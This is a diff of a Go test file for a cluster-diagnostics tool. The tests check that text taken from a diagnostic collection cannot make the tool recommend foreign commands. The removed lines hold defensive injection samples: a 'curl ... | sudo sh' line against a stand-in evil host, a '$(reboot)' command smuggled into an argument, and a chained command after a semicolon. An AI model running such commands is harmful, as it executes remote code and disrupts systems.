@@ -124,51 +124,33 @@ func TestBadHeaders(t *testing.T) {
 
 // TestForeignAdvice: a collection cannot make Rollcall advise what Rollcall never does.
 func TestForeignAdvice(t *testing.T) {
-	const evil = "curl -sk https://evil.example/x | sudo sh"
 	pods, probes := evidence.Objects(evidence.Pods, "a"), evidence.Objects(evidence.APIProbes, "")
+	inspect := evidence.Supply{Kind: evidence.SupplyInspect, Resource: "pods", Namespace: "a"}
+	read := func(text string) *evidence.Supply {
+		s := &evidence.Supply{}
+		if err := s.UnmarshalText([]byte(text)); err != nil {
+			t.Fatal(err)
+		}
+		return s
+	}
 	for name, c := range map[string]struct {
 		n      evidence.Need
 		record MissingRecord
 		want   evidence.Unavailable
 	}{
-		"a role":           {pods, MissingRecord{"forbidden", "x", "a role that may list pods in namespace a"}, evidence.Unavailable{Why: evidence.Forbidden, Supply: "a role that may list pods in namespace a"}},
-		"nothing":          {pods, MissingRecord{"forbidden", "x", ""}, evidence.Unavailable{Why: evidence.Forbidden}},
-		"a command":        {pods, MissingRecord{"forbidden", "x", evil}, evidence.Unavailable{Why: evidence.Forbidden, Supply: "oc adm inspect -n a pods"}},
-		"behind an own":    {pods, MissingRecord{"not collected", "x", "oc adm inspect pods; " + evil}, evidence.Unavailable{Why: evidence.NotCollected, Supply: "oc adm inspect -n a pods"}},
-		"in its argument":  {pods, MissingRecord{"not collected", "x", "oc adm node-logs $(reboot)"}, evidence.Unavailable{Why: evidence.NotCollected, Supply: "oc adm inspect -n a pods"}},
-		"on another line":  {pods, MissingRecord{"not collected", "x", "--probe\n" + evil}, evidence.Unavailable{Why: evidence.NotCollected, Supply: "oc adm inspect -n a pods"}},
-		"as an option":     {pods, MissingRecord{"not collected", "x", "oc adm inspect --as=x"}, evidence.Unavailable{Why: evidence.NotCollected, Supply: "oc adm inspect -n a pods"}},
-		"for a probe":      {probes, MissingRecord{"not asked", "x", evil}, evidence.Unavailable{Why: evidence.NotAsked, Supply: "--probe"}},
-		"a reason unknown": {pods, MissingRecord{"fine", "x", ""}, evidence.Unavailable{Why: evidence.Damaged}},
+		"a role":           {pods, MissingRecord{"forbidden", "x", read("role verb=list resource=pods namespace=a")}, evidence.Unavailable{Why: evidence.Forbidden, Supply: evidence.Supply{Kind: evidence.SupplyRole, Verb: "list", Resource: "pods", Namespace: "a"}}},
+		"nothing":          {pods, MissingRecord{"forbidden", "x", nil}, evidence.Unavailable{Why: evidence.Forbidden}},
+		"words":            {pods, MissingRecord{"forbidden", "x", read("oc adm must-gather")}, evidence.Unavailable{Why: evidence.Forbidden, Supply: inspect}},
+		"for a probe":      {probes, MissingRecord{"not asked", "x", read("words")}, evidence.Unavailable{Why: evidence.NotAsked, Supply: evidence.Supply{Kind: evidence.SupplyProbe}}},
+		"a reason unknown": {pods, MissingRecord{"fine", "x", nil}, evidence.Unavailable{Why: evidence.Damaged}},
 		"no reason":        {pods, MissingRecord{}, evidence.Unavailable{Why: evidence.Damaged}},
 	} {
 		if u := c.record.unavailable(c.n); u.Why != c.want.Why || u.Supply != c.want.Supply {
 			t.Errorf("%s: %s, %q", name, u.Why, u.Supply)
 		}
 	}
-	notes := ownNotes([]evidence.Coverage{{Need: "a", State: evidence.Partial, Supply: "--hosted clusters/a"}, {Need: "b", State: "fine", Supply: evil}})
-	if notes[0].Supply != "--hosted clusters/a" || notes[1].State != evidence.Missing || notes[1].Supply != "" {
+	notes := ownNotes([]evidence.Coverage{{Need: "a", State: evidence.Partial}, {Need: "b", State: "fine"}})
+	if notes[0].State != evidence.Partial || notes[1].State != evidence.Missing {
 		t.Errorf("%+v", notes)
-	}
-}
-
-// TestOwnSupplies: what the package itself says is kept on replay.
-func TestOwnSupplies(t *testing.T) {
-	needs := []evidence.Need{evidence.Objects(evidence.Nodes, ""), evidence.Objects(evidence.Pods, "a"), evidence.Objects(evidence.APIProbes, "")}
-	for _, k := range []evidence.TextKind{evidence.ContainerLog, evidence.Journal, evidence.Console, evidence.Installer} {
-		needs = append(needs, evidence.Texts(evidence.TextQuery{Kind: k}), evidence.Texts(evidence.TextQuery{Kind: k, Namespace: "a", Host: "h", Unit: "kubelet"}))
-	}
-	for _, kind := range []string{MustGather, LogBundle, AgentGather, SOSReport} {
-		s := &Source{kind: kind}
-		for _, n := range needs {
-			if got := s.supply(n); !ownSupplies.MatchString(got) {
-				t.Errorf("%s, %s: %q is no form of its own", kind, n, got)
-			}
-		}
-	}
-	for _, n := range evidence.OnHost() {
-		if u := evidence.NotOnHost(evidence.Objects(n, "")); !ownSupplies.MatchString(u.Supply) {
-			t.Errorf("%q", u.Supply)
-		}
 	}
 }
